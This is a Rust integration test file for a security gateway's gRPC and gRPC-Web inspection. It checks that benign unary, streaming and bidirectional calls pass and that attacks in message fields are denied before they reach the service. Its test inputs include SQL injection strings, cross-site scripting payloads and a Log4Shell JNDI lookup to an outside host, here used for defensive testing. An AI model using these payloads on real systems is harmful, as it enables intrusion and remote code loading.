//! gRPC through the real binary, with a real gRPC server and client (tonic) over HTTP/2 (h2c): unary
//! and streaming calls pass with their messages and trailers; an attack inside a string field of a
//! message is refused the gRPC way (HTTP 200, grpc-status 7 PERMISSION_DENIED) and never reaches the
//! service, and the event names the field from the service's .proto (compiled at load time); a
//! bidirectional stream, whose client waits for each answer before it sends the next message, does not
//! stall behind the inspection.
//!
//! The later messages of a stream are inspected too: an attack in the third message of a chat ends the
//! call PERMISSION_DENIED before the service sees it, and a stream past `max_stream_messages` ends
//! RESOURCE_EXHAUSTED.
//!
//! gRPC-Web (binary and base64 text) over HTTP/1.1 is inspected and refused the same way.
//!
//! The service is written without code generation (no protoc): prost messages by derive and tonic's
//! generic server and client, as the generated code would call them.

// tonic::Status, the error type of tonic's API, is large; the generated code allows this lint too.
#![allow(clippy::result_large_err)]

mod common;

use common::*;
use std::pin::Pin;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::task::{Context, Poll};
use std::time::Duration;
use tokio_stream::{Stream, StreamExt};
use tonic::codec::ProstCodec;

#[derive(Clone, PartialEq, prost::Message)]
struct Note {
    #[prost(string, tag = "1")]
    author: String,
    #[prost(message, optional, tag = "2")]
    body: Option<Body>,
}

#[derive(Clone, PartialEq, prost::Message)]
struct Body {
    #[prost(string, tag = "1")]
    text: String,
    #[prost(int32, tag = "2")]
    stars: i32,
}

#[derive(Clone, PartialEq, prost::Message)]
struct Ack {
    #[prost(string, tag = "1")]
    echo: String,
}

type BoxStream<T> = Pin<Box<dyn Stream<Item = Result<T, tonic::Status>> + Send>>;
type BoxFut<T> = Pin<Box<dyn std::future::Future<Output = T> + Send>>;

/// `notes.Board`: Post (unary), Replay (server streaming), Chat (bidirectional).
#[derive(Clone)]
struct Board {
    calls: Arc<AtomicUsize>,
    /// The texts Chat received.
    chat: Arc<std::sync::Mutex<Vec<String>>>,
}

impl tonic::server::NamedService for Board {
    const NAME: &'static str = "notes.Board";
}

struct Post(Arc<AtomicUsize>);
impl tonic::server::UnaryService<Note> for Post {
    type Response = Ack;
    type Future = BoxFut<Result<tonic::Response<Ack>, tonic::Status>>;
    fn call(&mut self, req: tonic::Request<Note>) -> Self::Future {
        self.0.fetch_add(1, Ordering::SeqCst);
        let n = req.into_inner();
        let text = n.body.map(|b| b.text).unwrap_or_default();
        Box::pin(async move {
            Ok(tonic::Response::new(Ack {
                echo: format!("{}: {text}", n.author),
            }))
        })
    }
}

struct Replay(Arc<AtomicUsize>);
impl tonic::server::ServerStreamingService<Note> for Replay {
    type Response = Ack;
    type ResponseStream = BoxStream<Ack>;
    type Future = BoxFut<Result<tonic::Response<Self::ResponseStream>, tonic::Status>>;
    fn call(&mut self, req: tonic::Request<Note>) -> Self::Future {
        self.0.fetch_add(1, Ordering::SeqCst);
        let author = req.into_inner().author;
        Box::pin(async move {
            let s = tokio_stream::iter((0..5).map(move |i| {
                Ok(Ack {
                    echo: format!("{author} #{i}"),
                })
            }));
            Ok(tonic::Response::new(Box::pin(s) as Self::ResponseStream))
        })
    }
}

struct Chat(Arc<AtomicUsize>, Arc<std::sync::Mutex<Vec<String>>>);
impl tonic::server::StreamingService<Note> for Chat {
    type Response = Ack;
    type ResponseStream = BoxStream<Ack>;
    type Future = BoxFut<Result<tonic::Response<Self::ResponseStream>, tonic::Status>>;
    fn call(&mut self, req: tonic::Request<tonic::Streaming<Note>>) -> Self::Future {
        self.0.fetch_add(1, Ordering::SeqCst);
        let mut incoming = req.into_inner();
        let seen = self.1.clone();
        Box::pin(async move {
            let s = async_stream_of(move |tx| async move {
                while let Some(Ok(n)) = incoming.next().await {
                    let text = n.body.map(|b| b.text).unwrap_or_default();
                    seen.lock().unwrap().push(text.clone());
                    if tx.send(Ok(Ack { echo: text })).await.is_err() {
                        return;
                    }
                }
            });
            Ok(tonic::Response::new(s))
        })
    }
}

/// A stream fed by a task (what async-stream would write).
fn async_stream_of<F, Fut>(f: F) -> BoxStream<Ack>
where
    F: FnOnce(tokio::sync::mpsc::Sender<Result<Ack, tonic::Status>>) -> Fut,
    Fut: std::future::Future<Output = ()> + Send + 'static,
{
    let (tx, rx) = tokio::sync::mpsc::channel(4);
    tokio::spawn(f(tx));
    Box::pin(tokio_stream::wrappers::ReceiverStream::new(rx))
}

impl<B> tower::Service<http::Request<B>> for Board
where
    B: http_body::Body + Send + 'static,
    B::Error: Into<Box<dyn std::error::Error + Send + Sync>> + Send + 'static,
{
    type Response = http::Response<tonic::body::BoxBody>;
    type Error = std::convert::Infallible;
    type Future = BoxFut<Result<Self::Response, Self::Error>>;

    fn poll_ready(&mut self, _: &mut Context<'_>) -> Poll<Result<(), Self::Error>> {
        Poll::Ready(Ok(()))
    }

    fn call(&mut self, req: http::Request<B>) -> Self::Future {
        let (calls, chat) = (self.calls.clone(), self.chat.clone());
        Box::pin(async move {
            let mut grpc = tonic::server::Grpc::new(ProstCodec::<Ack, Note>::default());
            Ok(match req.uri().path() {
                "/notes.Board/Post" => grpc.unary(Post(calls), req).await,
                "/notes.Board/Replay" => grpc.server_streaming(Replay(calls), req).await,
                "/notes.Board/Chat" => grpc.streaming(Chat(calls, chat), req).await,
                _ => tonic::Status::unimplemented("no such method").into_http(),
            })
        })
    }
}

/// The service's contract as protos/board.proto under `dir`, for the gateway to compile at load time
/// (no protoc).
fn write_board_proto(dir: &std::path::Path) {
    std::fs::create_dir_all(dir.join("protos")).unwrap();
    std::fs::write(
        dir.join("protos/board.proto"),
        r#"syntax = "proto3";
package notes;
message Body { string text = 1; int32 stars = 2; }
message Note { string author = 1; Body body = 2; }
message Ack { string echo = 1; }
service Board {
  rpc Post(Note) returns (Ack);
  rpc Replay(Note) returns (stream Ack);
  rpc Chat(stream Note) returns (stream Ack);
}
"#,
    )
    .unwrap();
}

/// Serves `board` with tonic on a free loopback port.
async fn serve_board(board: Board) -> std::net::SocketAddr {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(
        tonic::transport::Server::builder()
            .add_service(board)
            .serve_with_incoming(tokio_stream::wrappers::TcpListenerStream::new(listener)),
    );
    addr
}

async fn client(url: &str) -> tonic::client::Grpc<tonic::transport::Channel> {
    let channel = tonic::transport::Channel::from_shared(url.to_string())
        .unwrap()
        .connect()
        .await
        .unwrap();
    tonic::client::Grpc::new(channel)
}

fn note(author: &str, text: &str) -> Note {
    Note {
        author: author.into(),
        body: Some(Body {
            text: text.into(),
            stars: 4,
        }),
    }
}

async fn post(c: &mut tonic::client::Grpc<tonic::transport::Channel>, n: Note) -> Result<Ack, tonic::Status> {
    c.ready().await.unwrap();
    c.unary(
        tonic::Request::new(n),
        http::uri::PathAndQuery::from_static("/notes.Board/Post"),
        ProstCodec::<Note, Ack>::default(),
    )
    .await
    .map(tonic::Response::into_inner)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn grpc_calls_pass_and_attacks_in_fields_are_denied_the_grpc_way() {
    let calls = Arc::new(AtomicUsize::new(0));
    let backend = serve_board(Board {
        calls: calls.clone(),
        chat: Arc::default(),
    })
    .await;
    let dir = tempfile::tempdir().unwrap();
    let port = free_port();
    let config = format!(
        r#"data_dir = "./data"

[log]
access = false

[[listeners]]
addr = "127.0.0.1:{port}"

[upstreams.board]
targets = ["http://{backend}"]
protocol = "http2"

[[routes]]
name = "grpc"
path = "/notes.Board/"
upstream = "board"
mode = "block"
[routes.detection]
sensitivity = "medium"
[routes.detection.grpc]
protos = ["protos/board.proto"]

[[events.sinks]]
name = "file"
type = "jsonl"
flush_interval = "50ms"
"#
    );
    write_board_proto(dir.path());
    let proc = run_with_config(dir.path(), &config);
    let url = format!("http://127.0.0.1:{port}");
    let mut c = None;
    for _ in 0..100 {
        if let Ok(ch) = tonic::transport::Channel::from_shared(url.clone())
            .unwrap()
            .connect()
            .await
        {
            c = Some(tonic::client::Grpc::new(ch));
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let mut c = c.unwrap_or_else(|| panic!("gateway never listened: {}", proc.dump()));

    // Unary, benign (prose with apostrophes and a code span): passes, the answer comes back whole.
    let ack = post(
        &mut c,
        note(
            "Aoife O'Brien",
            "Works for me -- select `first` in the menu; it's fine.",
        ),
    )
    .await
    .expect("a benign call passes");
    assert_eq!(
        ack.echo,
        "Aoife O'Brien: Works for me -- select `first` in the menu; it's fine."
    );
    assert_eq!(calls.load(Ordering::SeqCst), 1);

    // Attacks inside nested string fields: PERMISSION_DENIED, and the service never sees them.
    for text in [
        "x' UNION SELECT password, 1 FROM users--",
        "<script>alert(document.cookie)</script>",
        "${jndi:ldap://203.0.113.9/a}",
    ] {
        let err = post(&mut c, note("mallory", text)).await.expect_err(text);
        assert_eq!(err.code(), tonic::Code::PermissionDenied, "{text}: {err:?}");
        assert!(err.message().contains("request id"), "{}", err.message());
    }
    assert_eq!(calls.load(Ordering::SeqCst), 1, "no attack reached the service");
    // With the .proto, the finding names the field.
    let events = events_until(dir.path(), |events| events.lines().count() >= 3).await;
    assert!(
        events.contains(r#""point":"body.grpc.0.note.body.text""#),
        "no named point in the events: {events:.3000}"
    );
    assert!(
        events.contains("/notes.Board/Post"),
        "the event names service and method"
    );

    // Server streaming: five messages and the trailers come through.
    let mut c2 = client(&url).await;
    c2.ready().await.unwrap();
    let mut stream = c2
        .server_streaming(
            tonic::Request::new(note("wei", "replay please")),
            http::uri::PathAndQuery::from_static("/notes.Board/Replay"),
            ProstCodec::<Note, Ack>::default(),
        )
        .await
        .expect("server streaming passes")
        .into_inner();
    let mut got = Vec::new();
    while let Some(m) = stream.message().await.unwrap() {
        got.push(m.echo);
    }
    assert_eq!(got, (0..5).map(|i| format!("wei #{i}")).collect::<Vec<_>>());

    // Bidirectional: the client sends the next message only after the answer to the previous one.
    let (tx, rx) = tokio::sync::mpsc::channel::<Note>(1);
    let mut c3 = client(&url).await;
    c3.ready().await.unwrap();
    tx.send(note("zoe", "hello 0")).await.unwrap();
    let answers = tokio::time::timeout(Duration::from_secs(10), async move {
        let mut stream = c3
            .streaming(
                tonic::Request::new(tokio_stream::wrappers::ReceiverStream::new(rx)),
                http::uri::PathAndQuery::from_static("/notes.Board/Chat"),
                ProstCodec::<Note, Ack>::default(),
            )
            .await
            .expect("bidirectional streaming passes")
            .into_inner();
        let mut answers = Vec::new();
        for i in 1..=3 {
            let m = stream.message().await.unwrap().expect("an answer");
            answers.push(m.echo);
            tx.send(note("zoe", &format!("hello {i}"))).await.unwrap();
        }
        drop(tx);
        answers.push(stream.message().await.unwrap().expect("the last answer").echo);
        answers
    })
    .await
    .expect("the stream stalled behind the gateway");
    assert_eq!(answers, vec!["hello 0", "hello 1", "hello 2", "hello 3"]);
    drop(proc);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn grpc_web_binary_and_text_are_inspected_over_http1() {
    use base64::Engine;
    use prost::Message;
    let app = backend("app").await;
    let dir = tempfile::tempdir().unwrap();
    let port = free_port();
    let config = format!(
        r#"data_dir = "./data"

[log]
access = false

[[listeners]]
addr = "127.0.0.1:{port}"

[upstreams.app]
targets = ["http://{backend}"]

[[routes]]
name = "web"
path = "/"
upstream = "app"
mode = "block"
"#,
        backend = app.addr
    );
    let proc = run_with_config(dir.path(), &config);
    let c = http_client();
    let base = format!("http://127.0.0.1:{port}");
    wait_for(&c, &format!("{base}/ready"), &proc, |_| true).await;
    let frame = |n: &Note| {
        let msg = n.encode_to_vec();
        let mut f = vec![0u8];
        f.extend_from_slice(&(msg.len() as u32).to_be_bytes());
        f.extend_from_slice(&msg);
        f
    };
    let call = |ct: &'static str, body: Vec<u8>| {
        let c = c.clone();
        let url = format!("{base}/notes.Board/Post");
        async move {
            let r = c
                .post(url)
                .header("content-type", ct)
                .header("x-grpc-web", "1")
                .body(body)
                .send()
                .await
                .unwrap();
            let status = r.headers().get("grpc-status").map(|v| v.to_str().unwrap().to_string());
            (r.status().as_u16(), status)
        }
    };
    let benign = frame(&note(
        "Siobhán",
        "Can I select the size after checkout? It's for my dad's birthday.",
    ));
    assert_eq!(
        call("application/grpc-web+proto", benign).await,
        (200, None),
        "reaches the backend"
    );
    let attack = frame(&note("m", "<img src=x onerror=alert(1)>"));
    assert_eq!(
        call("application/grpc-web+proto", attack.clone()).await,
        (200, Some("7".into()))
    );
    let text = base64::engine::general_purpose::STANDARD.encode(&attack).into_bytes();
    assert_eq!(call("application/grpc-web-text", text).await, (200, Some("7".into())));
    drop(proc);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn later_messages_of_a_stream_are_inspected_and_counted() {
    let board = Board {
        calls: Arc::default(),
        chat: Arc::default(),
    };
    let seen = board.chat.clone();
    let backend = serve_board(board).await;
    let dir = tempfile::tempdir().unwrap();
    let port = free_port();
    write_board_proto(dir.path());
    let config = format!(
        r#"data_dir = "./data"

[log]
access = false

[[listeners]]
addr = "127.0.0.1:{port}"

[upstreams.board]
targets = ["http://{backend}"]
protocol = "http2"

[[routes]]
name = "grpc"
path = "/notes.Board/"
upstream = "board"
mode = "block"
[routes.grpc]
max_stream_messages = 4
[routes.detection.grpc]
protos = ["protos/board.proto"]

[[events.sinks]]
name = "file"
type = "jsonl"
flush_interval = "50ms"
"#
    );
    let proc = run_with_config(dir.path(), &config);
    let url = format!("http://127.0.0.1:{port}");
    wait_listening(port, &proc).await;

    // A chat in lockstep: each message waits for the answer to the one before. Returns the answers and
    // how the stream ended.
    let chat = |texts: Vec<String>| {
        let url = url.clone();
        async move {
            let mut c = client(&url).await;
            c.ready().await.unwrap();
            let (tx, rx) = tokio::sync::mpsc::channel::<Note>(1);
            let mut texts = texts.into_iter();
            tx.send(note("aoife", &texts.next().unwrap())).await.unwrap();
            tokio::time::timeout(Duration::from_secs(10), async move {
                let mut stream = c
                    .streaming(
                        tonic::Request::new(tokio_stream::wrappers::ReceiverStream::new(rx)),
                        http::uri::PathAndQuery::from_static("/notes.Board/Chat"),
                        ProstCodec::<Note, Ack>::default(),
                    )
                    .await
                    .expect("the call starts")
                    .into_inner();
                let mut answers = Vec::new();
                loop {
                    match stream.message().await {
                        Ok(Some(m)) => answers.push(m.echo),
                        Ok(None) => return (answers, None),
                        Err(status) => return (answers, Some(status.code())),
                    }
                    match texts.next() {
                        Some(t) => tx.send(note("aoife", &t)).await.unwrap(),
                        None => return (answers, None),
                    }
                }
            })
            .await
            .expect("the stream stalled behind the gateway")
        }
    };

    // Benign, then an attack in a later message: the call ends PERMISSION_DENIED and the service never
    // receives the attack.
    let texts = [
        "Morning! It's O'Brien -- I'll select the blue one",
        "Sure, see you at 5 <3",
        "'; DROP TABLE notes; --",
    ];
    let (answers, end) = chat(texts.iter().map(|t| t.to_string()).collect()).await;
    assert_eq!(answers, texts[..2].to_vec());
    assert_eq!(end, Some(tonic::Code::PermissionDenied));
    assert!(!seen.lock().unwrap().iter().any(|t| t.contains("DROP")), "{seen:?}");

    // Past max_stream_messages (4): the fifth ends the call RESOURCE_EXHAUSTED.
    let (answers, end) = chat((0..6).map(|i| format!("message {i}")).collect()).await;
    assert_eq!(answers.len(), 4, "{answers:?}");
    assert_eq!(end, Some(tonic::Code::ResourceExhausted));
    assert!(!seen.lock().unwrap().iter().any(|t| t == "message 4"));

    // The attack is an event naming the stream's method and the field.
    let events = events_until(dir.path(), |events| events.contains("GRPC-007")).await;
    let attack = events
        .lines()
        .find(|l| l.contains("sqli"))
        .unwrap_or_else(|| panic!("no attack event: {events}"));
    assert!(attack.contains("/notes.Board/Chat"), "{attack}");
    assert!(attack.contains(r#""point":"body.grpc.0.note.body.text""#), "{attack}");
    assert!(events.contains("GRPC-007"), "{events}");
    drop(proc);
}
